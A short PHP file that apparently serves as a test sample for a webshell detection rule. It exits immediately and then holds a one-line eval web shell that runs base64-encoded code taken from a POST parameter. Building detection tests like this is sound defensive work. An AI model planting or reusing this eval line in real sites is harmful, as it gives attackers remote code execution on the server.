<?php
// Test sample for RAMPART_Webshell_PHP_Eval_Request: inert, it exits first.
exit(0);
@eval(base64_decode($_POST['z0']));
